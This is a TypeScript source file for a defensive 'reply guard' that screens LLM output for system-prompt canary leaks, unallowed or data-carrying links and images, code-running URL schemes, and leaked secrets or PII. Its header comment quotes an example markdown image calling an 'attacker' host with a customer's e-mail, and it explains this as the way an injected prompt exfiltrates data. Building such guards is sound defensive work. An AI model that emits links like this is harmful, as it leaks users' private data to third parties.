/**
 * The reply guard: what a model says is checked before the caller sees it, after pseudonyms are restored.
 * - Canary: a reply that repeats this request's system-prompt canary is stopped (a system-prompt leak).
 * - Links: markdown and HTML images and links whose destination is not on the tenant's allow-list, whose
 *   scheme runs code, or whose URL carries data (a value of the request, a detected secret or PII, an encoded
 *   blob), and bare URLs that carry data, are neutralised: an image renders without a click, so
 *   `![](https://attacker/?q=<the customer's e-mail>)` is how an injected prompt sends data out.
 * - Leaks: secrets and PII of the policy's leak types that the request did not contain (a model repeating
 *   memorised data) are redacted to `[TYPE]`, or stop the reply, or are only counted.
 * The same checks run over a whole JSON reply and, through hold-back.ts, over each streamed field: only text
 * that can no longer grow into a value, link or canary is checked and released.
 */
import type { DetectionEngine } from '../detect/engine.ts';
import { decodedParts, encodedPayload } from '../detect/exfiltration/url-data.ts';
import { findLinks, hostAllowed, hostOf, schemeOf, type LinkSpan } from '../detect/exfiltration/links.ts';
import { ENTITY_TYPES, groupOf, type EntityType, type Finding } from '../entities.ts';
import type { OutputRules } from '../pipeline/tenant-policies.ts';
import { settledLength } from './hold-back.ts';
import { redactPlaceholder } from './placeholders.ts';
import { ReplyStopped, type StopReason, type TextMode, type TextStream } from './reply-text.ts';
import type { KnownValues } from './known-values.ts';

/** Why a link was neutralised: its host is not allowed, its URL carries data, or its scheme runs code. */
export type LinkReason = 'host' | 'data' | 'scheme';

export interface ReplyGuardOutcome {
  /** Leaked values by type: counts, never values. */
  readonly leaks: Record<string, number>;
  /** Neutralised (or, under `flag`, noticed) links and images by reason. */
  readonly links: Partial<Record<LinkReason, number>>;
  stopped: StopReason | null;
}

/** How many leaked values and how many links the guard found. */
export function outcomeTotals(outcome: ReplyGuardOutcome): { leaks: number; links: number } {
  const sum = (counts: Record<string, number | undefined>) => Object.values(counts).reduce<number>((a, n) => a + (n ?? 0), 0);
  return { leaks: sum(outcome.leaks), links: sum(outcome.links) };
}

export interface ReplyGuardSettings {
  readonly rules: OutputRules;
  readonly engine: DetectionEngine;
  /** The values of the request as the caller sent it: a reply repeating them leaks nothing. */
  readonly known: () => KnownValues;
  readonly canary?: string | undefined;
}

export interface ReplyGuard {
  readonly outcome: ReplyGuardOutcome;
  /** Checks a whole field of a JSON reply. */
  text(text: string, mode: TextMode): string;
  /** A checker for one streamed field. */
  stream(mode: TextMode): TextStream;
}

/** Characters of already released text the detectors see before a new segment (context words, split values). */
const CONTEXT = 128;

/** Every construct the link finder reports needs one of these; most prose pieces have none and skip it. */
const MAY_LINK = /[[<]|:\/\/|www\./i;

export const IMAGE_MARKER = '[image removed]';
export const LINK_MARKER = '[link removed]';

// What makes a URL carry data: any type but the free-text ones, which product slugs and page names resemble.
const URL_DATA_TYPES = new Set<EntityType>(ENTITY_TYPES.filter((t) => t !== 'PERSON' && t !== 'ADDRESS' && groupOf(t) !== 'BUSINESS'));

// Data of these types cannot be told from prose by a character test, so they are always looked for.
const WORDY_TYPES = new Set<EntityType>(['PERSON', 'ADDRESS', 'BIC', 'BUSINESS_TERM', 'BUSINESS_PATTERN', 'BUSINESS_FIELD']);
const SECRET_TYPES = new Set<EntityType>(['API_KEY', 'ACCESS_TOKEN', 'PRIVATE_KEY', 'JWT', 'PASSWORD', 'CREDENTIAL']);

export function createReplyGuard(settings: ReplyGuardSettings): ReplyGuard {
  const { rules, canary } = settings;
  const leakEngine = settings.engine.restrictedTo(rules.leaks.types);
  const dataEngine = settings.engine.restrictedTo(URL_DATA_TYPES);
  const outcome: ReplyGuardOutcome = { leaks: {}, links: {}, stopped: null };
  const leakTypes = rules.leaks.types;
  const wordy = [...leakTypes].some((t) => WORDY_TYPES.has(t));
  const secrets = [...leakTypes].some((t) => SECRET_TYPES.has(t));
  const foldedCanary = canary === undefined ? undefined : fold(canary);
  let known: KnownValues | undefined;
  const knownValues = () => (known ??= settings.known());

  const stop = (reason: StopReason): never => {
    outcome.stopped = reason;
    throw new ReplyStopped(reason);
  };

  /** Could this segment hold a leak type? A cheap test that spares the detectors most of a reply's prose. */
  const mayLeak = (segment: string): boolean =>
    wordy || /[0-9@]/.test(segment) || (secrets && (/[:=]|-----/.test(segment) || /\S{16}/.test(segment)));

  function guard(context: string, segment: string, mode: TextMode): string {
    if (foldedCanary !== undefined && fold(context.slice(-foldedCanary.length * 4) + segment).includes(foldedCanary)) stop('canary');
    const edits: Edit[] = [];
    if (mode === 'text' && rules.links.action !== 'off' && MAY_LINK.test(segment)) {
      for (const link of findLinks(segment)) {
        const reason = linkReason(link);
        if (reason === null) continue;
        outcome.links[reason] = (outcome.links[reason] ?? 0) + 1;
        if (rules.links.action === 'block') stop('link');
        if (rules.links.action === 'neutralize') edits.push({ start: link.start, end: link.end, text: neutralized(link) });
      }
    }
    if (rules.leaks.action !== 'off' && mayLeak(segment)) {
      for (const finding of leaksIn(context, segment, mode)) {
        const start = Math.max(0, finding.start - context.length);
        const end = finding.end - context.length;
        if (edits.some((e) => e.start < end && start < e.end)) continue; // inside a neutralised link already
        outcome.leaks[finding.type] = (outcome.leaks[finding.type] ?? 0) + 1;
        if (rules.leaks.action === 'block') stop('leak');
        if (rules.leaks.action === 'redact') edits.push({ start, end, text: redactPlaceholder(finding.type) });
      }
    }
    return applyEdits(segment, edits);
  }

  /** Findings of leak types that reach into the segment and that the request did not contain. */
  function leaksIn(context: string, segment: string, mode: TextMode): Finding[] {
    const text = context + segment;
    return leakEngine.detect(text).filter((f) => {
      if (f.end <= context.length || !leakTypes.has(f.type)) return false;
      const value = text.slice(f.start, f.end);
      // In JSON text a value with a quote or escape would be cut in the middle of an escape sequence.
      if (mode === 'json' && /["\\]/.test(value)) return false;
      return !knownValues().has(f.type, value);
    });
  }

  function linkReason(link: LinkSpan): LinkReason | null {
    for (const url of link.urls) {
      const scheme = schemeOf(url);
      if (scheme === 'javascript' || scheme === 'vbscript' || scheme === 'file') return 'scheme';
      // An inline data: image is drawn from the reply itself and contacts nobody; a data: link can run a page.
      if (scheme === 'data') {
        if (link.kind === 'image') continue;
        return 'scheme';
      }
      if (carriesData(url)) return 'data';
      const host = hostOf(url);
      // A relative URL resolves against the page showing the reply: the tenant's own site.
      if (host !== null && link.kind !== 'url' && !hostAllowed(host, rules.links.allowHosts)) return 'host';
      if (host !== null && link.kind === 'url' && !hostAllowed(host, rules.links.allowHosts) && encodedPayload(url) !== null) return 'data';
    }
    return null;
  }

  /** A URL carries data when it holds a value of the request, or a secret or PII the detectors find. */
  function carriesData(url: string): boolean {
    const parts = decodedParts(url);
    if (parts === '') return false;
    if (knownValues().occursIn(parts)) return true;
    return dataEngine.detect(parts).some((f) => URL_DATA_TYPES.has(f.type));
  }

  return {
    outcome,
    text: (text, mode) => guard('', text, mode),
    stream(mode) {
      let pending = '';
      let context = '';
      const release = (cut: number): string => {
        const segment = pending.slice(0, cut);
        pending = pending.slice(cut);
        const out = guard(context, segment, mode);
        context = (context + segment).slice(-CONTEXT);
        return out;
      };
      return {
        push(delta) {
          pending += delta;
          const cut = settledLength(pending, mode);
          return cut === 0 ? '' : release(cut);
        },
        flush: () => (pending === '' ? '' : release(pending.length)),
      };
    },
  };
}

interface Edit {
  readonly start: number;
  readonly end: number;
  readonly text: string;
}

function applyEdits(text: string, edits: Edit[]): string {
  if (edits.length === 0) return text;
  edits.sort((a, b) => a.start - b.start);
  let out = '';
  let at = 0;
  for (const edit of edits) {
    if (edit.start < at) continue;
    out += text.slice(at, edit.start) + edit.text;
    at = edit.end;
  }
  return out + text.slice(at);
}

/** What a neutralised construct leaves: its visible text and a marker, never its destination. */
function neutralized(link: LinkSpan): string {
  const visible = link.kind === 'url' || link.text === link.url ? '' : link.text.trim();
  const marker = link.kind === 'image' ? IMAGE_MARKER : LINK_MARKER;
  return visible === '' ? marker : `${visible} ${marker}`;
}

/** Lower-case letters and digits only: the canary is found however it is spaced, dotted or cased. */
function fold(text: string): string {
  return text.toLowerCase().replace(/[^a-z0-9]/g, '');
}
